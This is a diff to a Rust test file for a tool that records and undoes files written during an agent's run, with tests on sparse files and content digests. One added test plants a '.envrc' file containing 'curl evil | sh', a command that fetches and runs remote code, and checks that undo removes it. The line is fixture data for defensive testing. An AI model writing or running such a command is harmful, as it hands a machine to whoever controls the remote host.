@@ -2,9 +2,10 @@
 
 use super::agent_files::{RunFixture, call};
 use super::fixture::{Temp, temp, tree, write};
-use crate::sparse::{CopyLimits, digest};
+use crate::digest::digest;
+use crate::sparse::{CopyBudget, CopyLimits};
 use crate::workspace::Copier;
-use crate::{ConfinedDir, FileContent, ProjectWorkspace, Workspace, review, undo};
+use crate::{ConfinedDir, FileContent, ProjectWorkspace, UndoCoverage, Workspace, review, undo};
 use althing_protocol::AnswerLabel;
 use serde_json::json;
 use std::ffi::OsStr;
@@ -14,6 +15,7 @@ use std::path::Path;
 use std::time::{Duration, Instant};
 
 const TIB: u64 = 1 << 40;
+const GIB: u64 = 1 << 30;
 /// Far longer than a copy that skips holes takes, and far shorter than one that writes them.
 const QUICK: Duration = Duration::from_secs(120);
 
@@ -115,6 +117,29 @@ async fn a_hole_of_four_tebibytes_in_a_context_path_is_stored_reviewed_and_resto
 }
 
 #[tokio::test]
+async fn what_a_command_plants_beside_many_sparse_files_is_listed_and_undone() {
+    let mut fixture = RunFixture::writable();
+    fixture.coverage = UndoCoverage::Everything;
+    let files = fixture.files(0);
+    files.open_context().await.unwrap();
+    let began = Instant::now();
+    let at = |path: &str| fixture.base.join("project").join(path);
+    write(&at(".envrc"), "curl evil | sh");
+    write(&at("b.txt"), "by a command");
+    for n in 0..200 {
+        sparse(&at(&format!("holes/{n}")), GIB, &[]);
+    }
+    let writes = files.close_context().await.unwrap();
+    let is_listed = |path: &str| writes.iter().any(|write| write.path == at(path).display().to_string());
+    assert!(is_listed(".envrc") && is_listed("b.txt") && is_listed("holes/199"), "{writes:?}");
+    let report = undo(&fixture.run).unwrap();
+    assert_eq!((report.restored.len(), report.removed.len()), (1, 201));
+    assert_eq!(fixture.text("project/b.txt"), "b before\n");
+    assert!(!at(".envrc").exists() && !at("holes").exists());
+    assert!(began.elapsed() < QUICK, "it took {:?}", began.elapsed());
+}
+
+#[tokio::test]
 async fn a_huge_file_changed_after_the_run_is_not_undone() {
     let fixture = RunFixture::writable();
     let files = fixture.files(0);
@@ -207,7 +232,7 @@ fn a_digest_depends_on_the_content_and_not_on_where_the_holes_are() {
     let dir = temp();
     let of = |name: &str, size: u64, pieces: &[(u64, &str)]| {
         sparse(&dir.path().join(name), size, pieces);
-        digest(&mut File::open(dir.path().join(name)).unwrap()).unwrap()
+        digest(&File::open(dir.path().join(name)).unwrap(), &CopyBudget::default()).unwrap()
     };
     let size = 2 << 30;
     let zeros = "\0".repeat(300_000);
@@ -222,8 +247,8 @@ fn a_digest_depends_on_the_content_and_not_on_where_the_holes_are() {
     ] {
         assert_ne!(plain, other);
     }
-    let sha = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
-    assert_eq!(of("small", 3, &[(0, "abc")]), sha);
+    let small = [of("small", 1_000_000, &[]), of("written", 1_000_000, &[(400_000, &zeros)])];
+    assert_eq!(small[0], small[1]);
 }
 
 #[tokio::test]
